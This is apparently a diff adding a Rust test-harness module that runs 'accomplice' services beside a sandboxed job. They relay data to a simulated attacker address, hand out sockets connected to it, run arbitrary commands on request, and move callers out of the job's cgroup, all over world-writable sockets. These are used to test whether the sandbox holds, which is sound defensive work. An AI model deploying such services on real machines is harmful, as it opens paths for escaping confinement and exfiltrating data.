@@ -1,0 +1,319 @@
+//! Processes outside the job that do what a job asks of them: relays, givers of sockets, services.
+//!
+//! Each service listens on a socket; what it sends goes to the attacker with the bytes it was given, so
+//! that a frame there still names its case. They run in the world's `host` cgroup, beside the job.
+
+use std::io::{Read as _, Write as _};
+use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::os::fd::{AsFd as _, AsRawFd as _};
+use std::os::linux::net::SocketAddrExt as _;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixListener, UnixStream};
+use std::path::{Path, PathBuf};
+use std::process::{Command, ExitCode};
+use std::thread::{sleep, spawn};
+use std::time::Duration;
+
+use anyhow::{Context as _, Result};
+use clap::ValueEnum;
+use nix::sys::socket::{ControlMessage, MsgFlags, getsockopt, sendmsg, sockopt};
+
+use super::case::{Refused, io_at};
+use crate::harness::network::{EVIL_V4, JOB_V4, at};
+
+/// The port of the TCP and of the UDP relay, on every address of the job's machine.
+pub const RELAY_PORT: u16 = 7001;
+/// Where the attacker hears what was relayed.
+const HOME: u16 = 8080;
+
+/// Which accomplice.
+#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
+pub enum Role {
+    /// On the job's machine, outside the job.
+    Neighbour,
+    /// On the attacker's machine: does what a job asks of it from there.
+    Attacker,
+}
+
+/// Arguments of the hidden command.
+#[derive(clap::Args, Debug)]
+pub struct Args {
+    /// Which
+    role: Role,
+    /// Where its sockets are
+    #[arg(long)]
+    directory: PathBuf,
+    /// The cgroup that is not the job's
+    #[arg(long)]
+    cgroup: PathBuf,
+}
+
+/// A service on a Unix socket.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+pub enum Service {
+    /// Sends what it reads to the attacker.
+    Relay,
+    /// Gives back a socket; the request says which: [`Gift`].
+    Giver,
+    /// Runs a command line (words ended by NUL) as `systemd-run` would: as its own child.
+    Activation,
+    /// Moves whoever asks into its own cgroup.
+    Mover,
+    /// At the attacker: connects to a port of the job's machine.
+    Connect,
+    /// At the attacker: sends a datagram to a port of the job's machine.
+    Datagram,
+}
+
+/// What a [`Service::Giver`] gives.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+pub enum Gift {
+    /// A UDP socket that is connected to the attacker.
+    ConnectedUdp = b'u' as isize,
+    /// A TCP connection to the attacker.
+    ConnectedTcp = b't' as isize,
+    /// A UDP socket that is connected to nothing.
+    Udp = b'v' as isize,
+    /// A TCP socket that is connected to nothing.
+    Tcp = b's' as isize,
+}
+
+impl Service {
+    fn file(self) -> &'static str {
+        match self {
+            Self::Relay => "relay.sock",
+            Self::Giver => "giver.sock",
+            Self::Activation => "activation.sock",
+            Self::Mover => "mover.sock",
+            Self::Connect => "connect.sock",
+            Self::Datagram => "datagram.sock",
+        }
+    }
+
+    /// Where it listens.
+    pub fn path(self, directory: &Path) -> PathBuf {
+        directory.join(self.file())
+    }
+
+    /// Connects a hostile program to it.
+    pub fn ask(self, directory: &Path, request: &[u8]) -> Result<UnixStream, Refused> {
+        let mut stream = UnixStream::connect(self.path(directory)).map_err(io_at("connect"))?;
+        let limit = Some(Duration::from_secs(2));
+        stream
+            .set_read_timeout(limit)
+            .map_err(io_at("setsockopt"))?;
+        stream.write_all(request).map_err(io_at("write"))?;
+        Ok(stream)
+    }
+}
+
+/// The relay's abstract address; of this world only.
+pub fn abstract_relay(directory: &Path) -> std::io::Result<UnixAddress> {
+    let name = directory.join("relay");
+    UnixAddress::from_abstract_name(name.as_os_str().as_encoded_bytes())
+}
+
+/// The relay for datagrams.
+pub fn datagram_relay(directory: &Path) -> PathBuf {
+    directory.join("relay-dgram.sock")
+}
+
+/// Written when all services are there.
+pub fn ready(directory: &Path, role: Role) -> PathBuf {
+    directory.join(format!("ready-{role:?}"))
+}
+
+/// Serves until it is killed.
+pub fn run(args: Args) -> Result<ExitCode> {
+    let Args {
+        role,
+        directory,
+        cgroup,
+    } = args;
+    match role {
+        Role::Neighbour => {
+            relay_tcp(TcpListener::bind(at(Ipv6Addr::UNSPECIFIED, RELAY_PORT))?);
+            relay_udp(UdpSocket::bind(at(Ipv6Addr::UNSPECIFIED, RELAY_PORT))?);
+            let relay = |stream| forward(&heard(stream));
+            serve(Service::Relay, &directory, relay)?;
+            serve_on(
+                UnixListener::bind_addr(&abstract_relay(&directory)?)?,
+                relay,
+            );
+            relay_datagrams(&datagram_relay(&directory))?;
+            serve(Service::Giver, &directory, give)?;
+            serve(Service::Activation, &directory, activate)?;
+            serve(Service::Mover, &directory, move |stream| {
+                move_out(&stream, &cgroup)
+            })?;
+        }
+        Role::Attacker => {
+            serve(Service::Connect, &directory, |stream| {
+                if let Some(port) = asked_port(stream)
+                    && let Ok(mut stream) =
+                        TcpStream::connect_timeout(&port, Duration::from_millis(700))
+                {
+                    hear(&mut stream);
+                }
+            })?;
+            serve(Service::Datagram, &directory, |stream| {
+                if let Some(port) = asked_port(stream)
+                    && let Ok(socket) = UdpSocket::bind(at(EVIL_V4, 0))
+                {
+                    drop(socket.send_to(b"any news?", port));
+                    sleep(Duration::from_millis(300));
+                }
+            })?;
+        }
+    }
+    std::fs::write(ready(&directory, role), "")?;
+    loop {
+        sleep(Duration::from_secs(3600));
+    }
+}
+
+/// Everybody may use its socket, as with many daemons.
+fn serve<F>(service: Service, directory: &Path, act: F) -> Result<()>
+where
+    F: Fn(UnixStream) + Send + 'static,
+{
+    let path = service.path(directory);
+    let listener =
+        UnixListener::bind(&path).with_context(|| format!("listen on {}", path.display()))?;
+    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o666))?;
+    serve_on(listener, act);
+    Ok(())
+}
+
+fn serve_on<F>(listener: UnixListener, act: F)
+where
+    F: Fn(UnixStream) + Send + 'static,
+{
+    drop(spawn(move || {
+        for stream in listener.incoming().flatten() {
+            act(stream);
+        }
+    }));
+}
+
+/// What the peer says in one go.
+fn heard(mut stream: UnixStream) -> Vec<u8> {
+    let mut bytes = vec![0; 256];
+    let length = stream.read(&mut bytes).unwrap_or_default();
+    bytes.truncate(length);
+    bytes
+}
+
+fn hear(stream: &mut TcpStream) {
+    drop(stream.set_read_timeout(Some(Duration::from_millis(500))));
+    drop(stream.read(&mut [0; 64]));
+}
+
+/// To the attacker.
+fn forward(bytes: &[u8]) {
+    let sent =
+        UdpSocket::bind(at(JOB_V4, 0)).and_then(|socket| socket.send_to(bytes, at(EVIL_V4, HOME)));
+    if let Err(error) = sent {
+        eprintln!("accomplice: {error}");
+    }
+}
+
+/// Sends a word to the attacker: what the activation service is asked to run.
+pub fn send(word: &str) -> ExitCode {
+    forward(word.as_bytes());
+    ExitCode::SUCCESS
+}
+
+fn relay_tcp(listener: TcpListener) {
+    drop(spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut bytes = [0; 256];
+            drop(stream.set_read_timeout(Some(Duration::from_secs(1))));
+            let length = stream.read(&mut bytes).unwrap_or_default();
+            forward(bytes.get(..length).unwrap_or_default());
+        }
+    }));
+}
+
+fn relay_udp(socket: UdpSocket) {
+    drop(spawn(move || {
+        let mut bytes = [0; 256];
+        while let Ok(length) = socket.recv(&mut bytes) {
+            forward(bytes.get(..length).unwrap_or_default());
+        }
+    }));
+}
+
+fn relay_datagrams(path: &Path) -> Result<()> {
+    let socket = UnixDatagram::bind(path)?;
+    std::fs::set_permissions(path, PermissionsExt::from_mode(0o666))?;
+    drop(spawn(move || {
+        let mut bytes = [0; 256];
+        while let Ok(length) = socket.recv(&mut bytes) {
+            forward(bytes.get(..length).unwrap_or_default());
+        }
+    }));
+    Ok(())
+}
+
+fn give(mut stream: UnixStream) {
+    let mut which = [0];
+    drop(stream.read(&mut which));
+    let evil = at(EVIL_V4, HOME);
+    let fds = || -> Result<std::os::fd::OwnedFd> {
+        let [which] = which;
+        Ok(if which == Gift::ConnectedUdp as u8 {
+            let socket = UdpSocket::bind(at(Ipv4Addr::UNSPECIFIED, 0))?;
+            socket.connect(evil)?;
+            socket.into()
+        } else if which == Gift::ConnectedTcp as u8 {
+            TcpStream::connect(evil)?.into()
+        } else if which == Gift::Udp as u8 {
+            UdpSocket::bind(at(Ipv4Addr::UNSPECIFIED, 0))?.into()
+        } else {
+            super::sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)
+                .map_err(|refused| anyhow::anyhow!("{refused}"))?
+        })
+    };
+    let given = fds().and_then(|fd| {
+        let fds = [fd.as_fd().as_raw_fd()];
+        let rights = [ControlMessage::ScmRights(&fds)];
+        let part = [std::io::IoSlice::new(b"!")];
+        let (to, flags) = (stream.as_raw_fd(), MsgFlags::empty());
+        Ok(sendmsg::<()>(to, &part, &rights, flags, None)?)
+    });
+    if let Err(error) = given {
+        eprintln!("accomplice: cannot give: {error:#}");
+    }
+}
+
+fn activate(mut stream: UnixStream) {
+    let mut bytes = vec![0; 4096];
+    let length = stream.read(&mut bytes).unwrap_or_default();
+    bytes.truncate(length);
+    let line = String::from_utf8_lossy(&bytes).into_owned();
+    let mut words = line.split_terminator('\0');
+    if let Some(program) = words.next() {
+        drop(Command::new(program).args(words).status());
+    }
+    drop(stream.write_all(b"done"));
+}
+
+fn move_out(mut stream: &UnixStream, cgroup: &Path) {
+    let moved = getsockopt(&stream, sockopt::PeerCredentials)
+        .context("SO_PEERCRED")
+        .and_then(|peer| {
+            let procs = cgroup.join("cgroup.procs");
+            std::fs::write(procs, peer.pid().to_string()).context("cgroup.procs")
+        });
+    if let Err(error) = &moved {
+        eprintln!("accomplice: cannot move: {error:#}");
+    }
+    let answer: &[u8] = if moved.is_ok() { b"moved" } else { b"failed" };
+    drop(stream.write_all(answer));
+}
+
+fn asked_port(stream: UnixStream) -> Option<SocketAddr> {
+    let port = <[u8; 2]>::try_from(heard(stream)).ok()?;
+    Some(at(JOB_V4, u16::from_be_bytes(port)))
+}
